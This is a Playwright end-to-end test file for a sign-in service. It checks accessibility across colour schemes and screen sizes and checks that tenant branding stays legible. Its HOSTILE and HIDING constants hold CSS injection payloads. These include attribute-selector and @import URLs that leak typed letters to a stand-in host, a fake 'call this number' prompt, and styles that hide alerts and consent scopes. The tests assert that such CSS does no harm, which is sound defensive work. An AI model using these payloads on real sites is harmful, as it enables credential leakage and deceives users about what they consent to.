"""What pages look like: accessible in light and dark, on small screens, and in a tenant's own colours."""

from base64 import b64encode
from typing import Any

import pytest
from playwright.async_api import expect

from tests.e2e.browser.conftest import Visit
from tests.e2e.browser.relying_party import App
from tests.e2e.world import World

SCREENS = [
    pytest.param({"color_scheme": "light", "viewport": {"width": 1280, "height": 800}}, id="light"),
    pytest.param({"color_scheme": "dark", "viewport": {"width": 1280, "height": 800}}, id="dark"),
    pytest.param({"color_scheme": "light", "viewport": {"width": 320, "height": 640}}, id="small"),
    pytest.param({"color_scheme": "dark", "viewport": {"width": 320, "height": 640}}, id="small-dark"),
]
LOGO = '<svg xmlns="http://www.w3.org/2000/svg" width="180" height="44"><rect width="44" height="44"/></svg>'
HOSTILE = """
@import url(http://127.0.0.2:1/import.css);
@font-face { font-family: stolen; src: url(http://127.0.0.2:1/font) }
input[name=login][value^=u] { background: url(http://127.0.0.2:1/letter) }
.vt-card { background: url(http://127.0.0.2:1/card); font-family: stolen, serif; border-radius: 3rem }
.vt-form { position: fixed; top: -900px; opacity: 0 }
.vt-alert { display: none; color: #fff; background: #fff; font-size: 1px }
:root { --vt-danger: transparent; --vt-danger-soft: transparent; --vt-text: #eee }
.vt-card::before { content: "Please call 0900 123" }
"""

HIDING = """
:root { font-size: 0; --vt-font: Webdings }
.vt-form { word-spacing: -40px; letter-spacing: -20px; text-transform: uppercase; font-family: Webdings }
.vt-form { text-decoration: line-through 30px #f5f6f9; text-decoration-thickness: 30px }
.vt-scopes, .vt-scopes *, .vt-note, .vt-note strong, .vt-protected, .vt-protected * {
  font-size: 0; line-height: 0; margin-left: 2000px; max-width: 0; color: #f5f6f9; outline: 20px solid #f5f6f9
}
.vt-title { outline: 20px solid #fff; outline-offset: 20px; box-shadow: 0 100px 0 100px #fff }
.vt-buttons { box-shadow: 0 -100px 0 100px #fff }
.vt-button { margin: calc(-infinity * 1px) }
"""

DIFFERENT = """async images => {
  const pixels = async image => {
    const bitmap = await createImageBitmap(await (await fetch("data:image/png;base64," + image)).blob());
    const canvas = new OffscreenCanvas(bitmap.width, bitmap.height).getContext("2d");
    canvas.drawImage(bitmap, 0, 0);
    return canvas.getImageData(0, 0, bitmap.width, bitmap.height).data;
  };
  const [one, other] = await Promise.all(images.map(pixels));
  return one.length === other.length ? one.filter((value, at) => Math.abs(value - other[at]) > 32).length : Infinity;
}"""
"""How many channels of pixels of two images are far from each other."""


class TestAccessibility:
    @pytest.mark.parametrize("screen", SCREENS)
    async def test_pages_of_a_sign_in(
        self, visit: Visit, consenting_app: App, person: dict[str, Any], screen: dict[str, Any]
    ) -> None:
        visitor = await visit(consenting_app.address(scope="openid profile email offline_access"), **screen)
        await visitor.accessible()
        await visitor.sign_in(person["username"], "wrong")
        await expect(visitor.page.get_by_role("alert")).to_be_visible()
        await visitor.accessible()
        await visitor.sign_in(person["username"])
        await visitor.title(f"Allow {consenting_app.name} access?")
        await visitor.accessible()

    @pytest.mark.parametrize("screen", SCREENS)
    async def test_a_page_that_says_no(self, visit: Visit, world: World, screen: dict[str, Any]) -> None:
        visitor = await visit(f"{world.url}/hosted/master/sign-in", **screen)
        await visitor.title("This sign-in is over")
        await visitor.page.get_by_text("Technical details").click()
        await visitor.accessible()

    async def test_dark_is_dark(self, visit: Visit, app: App) -> None:
        page = (await visit(app.address(), color_scheme="dark")).page
        card = page.locator(".vt-card")
        assert await card.evaluate("each => getComputedStyle(each).backgroundColor") == "rgb(23, 26, 33)"

    async def test_nothing_moves_for_those_who_want_it_so(self, visit: Visit, app: App) -> None:
        page = (await visit(app.address(), reduced_motion="reduce")).page
        button = page.get_by_role("button", name="Sign in")
        assert await button.evaluate("each => getComputedStyle(each).transitionDuration") == "0s"


class TestBranding:
    async def _brand(self, world: World, applications: int, **tenant: Any) -> App:
        company = await world.add_company()
        await world.admin.update(company.path, tenant)
        return await App.register(company, applications)

    async def test_a_tenants_colours_stay_legible(self, visit: Visit, world: World, applications: int) -> None:
        branding = {"background_color": "#fff8e1", "welcome_text": "Hello <b>there</b>"}
        app = await self._brand(world, applications, primary_color="#ffe066", settings={"branding": branding})
        for scheme in ("light", "dark"):
            visitor = await visit(app.address(), color_scheme=scheme)
            button = visitor.page.get_by_role("button", name="Sign in")
            assert await button.evaluate("each => getComputedStyle(each).backgroundColor") == "rgb(255, 224, 102)"
            assert await button.evaluate("each => getComputedStyle(each).color") == "rgb(0, 0, 0)"
            await expect(visitor.page.get_by_text("Hello <b>there</b>")).to_be_visible()
            await visitor.accessible()

    async def test_the_logo_may_come_from_elsewhere(self, visit: Visit, world: World, applications: int) -> None:
        app = await self._brand(world, applications, logo_url="https://cdn.company.test/a.svg", display_name="Green")
        visitor = await visit("about:blank")
        await visitor.page.route(
            "https://cdn.company.test/a.svg", lambda route: route.fulfill(body=LOGO, content_type="image/svg+xml")
        )
        await visitor.page.goto(app.address())
        image = visitor.page.get_by_role("img", name="Green")
        assert await image.evaluate("each => each.decode().then(() => each.naturalWidth)") == 180
        await visitor.accessible()

    async def test_hostile_css_changes_looks_alone(self, visit: Visit, world: World, applications: int) -> None:
        app = await self._brand(world, applications, settings={"branding": {"custom_css": HOSTILE}})
        visitor = await visit("about:blank")
        page, asked = visitor.page, []
        page.on("request", lambda request: asked.append(request.url))
        await page.goto(app.address())
        await visitor.sign_in("user", "wrong")
        card, alert = page.locator(".vt-card"), page.get_by_role("alert")
        await expect(alert).to_be_visible()
        assert await card.evaluate("each => getComputedStyle(each).borderRadius") == "48px"
        assert await card.evaluate("each => getComputedStyle(each, '::before').content") == "none"
        assert await alert.evaluate("each => getComputedStyle(each).fontSize") == "15px"
        assert await alert.evaluate("each => getComputedStyle(each).color") == "rgb(168, 32, 26)"
        await expect(page.get_by_role("button", name="Sign in")).to_be_in_viewport()
        assert [url for url in asked if "127.0.0.2" in url] == []

    async def test_css_hides_nothing_of_what_is_consented_to(
        self, visit: Visit, world: World, applications: int
    ) -> None:
        seen = []
        for css in ("", HIDING):
            company = await world.add_company()
            await world.admin.update(company.path, {"settings": {"branding": {"custom_css": css}}})
            app = await App.register(company, applications, name="Shop", require_consent=True)
            visitor = await visit(app.address(scope="openid profile email"))
            await visitor.sign_in((await company.add_user())["username"])
            protected = visitor.page.locator(".vt-protected")
            await expect(protected).to_have_count(2)
            seen.append([b64encode(await each.screenshot()).decode() for each in await protected.all()])
        blank = (await visit("about:blank")).page
        for plain, hostile in zip(*seen, strict=True):
            assert await blank.evaluate(DIFFERENT, [plain, hostile]) < 20  # what is behind the rounded corners
